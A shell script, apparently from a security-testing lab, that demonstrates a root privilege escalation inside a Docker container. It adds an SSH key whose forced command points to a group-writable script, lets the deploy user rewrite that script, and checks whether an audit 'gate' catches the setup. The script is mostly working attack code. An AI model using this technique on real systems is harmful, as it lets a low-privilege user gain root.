#!/bin/sh
# A key's forced command (authorized_keys' command="..."): sshd runs it as the file's login for every login with
# that key, as ForceCommand. The admin's backup key for root (or for the admin, who becomes root) forced to the
# deploy team's receive script (/srv/tools 2775 root:deployer, attack8/9's precondition); the deploy login
# writes the script; the backup job's next login runs it. ForceCommand in sshd_config was judged; this was not.
# Usage: attack10/atk_key_command.sh /tmp/atk10 [root|admin]   (BASE=1: the code at main 13ee532)
set -eu
W=${1:-/tmp/atk10}; WHO=${2:-root}; CT=$(cat $W/ct); PORT=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['ssh'])")
[ -f $W/bkey ] || ssh-keygen -q -t ed25519 -N '' -C backup -f $W/bkey
HOME_OF=$([ $WHO = root ] && echo /root || echo /home/admin)
docker exec $CT sh -c "install -d -m 2775 -o root -g deployer /srv/tools; install -d -m 700 -o $WHO -g $WHO $HOME_OF/.ssh; rm -f /tmp/root-ran; cp -p $HOME_OF/.ssh/authorized_keys $HOME_OF/.ssh/ak.atk10 2>/dev/null || :"
docker exec -i $CT sh -c "k=\$(cat); echo \"command=\\\"/srv/tools/backup-recv\\\",no-pty \$k\" >> $HOME_OF/.ssh/authorized_keys; chown $WHO: $HOME_OF/.ssh/authorized_keys" < $W/bkey.pub
echo "--- $HOME_OF/.ssh/authorized_keys (its last line):"; docker exec $CT tail -1 $HOME_OF/.ssh/authorized_keys | cut -c1-90
ssh -F $W/ssh_config deployer 'printf "#!/bin/sh\n(id; sudo -n id) > /tmp/root-ran 2>&1\n" > /srv/tools/backup-recv; chmod 775 /srv/tools/backup-recv; ls -l /srv/tools'
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - .*authorized_keys" | cut -c1-400 || true
echo "--- the backup job logs in with its key ($WHO):"
ssh -o IdentitiesOnly=yes -i $W/bkey -o UserKnownHostsFile=$W/known_hosts -p $PORT $WHO@127.0.0.1 true || true
docker exec $CT cat /tmp/root-ran
[ -n "${KEEP:-}" ] || docker exec $CT sh -c "mv $HOME_OF/.ssh/ak.atk10 $HOME_OF/.ssh/authorized_keys 2>/dev/null || rm -f $HOME_OF/.ssh/authorized_keys; rm -rf /srv/tools /tmp/root-ran"
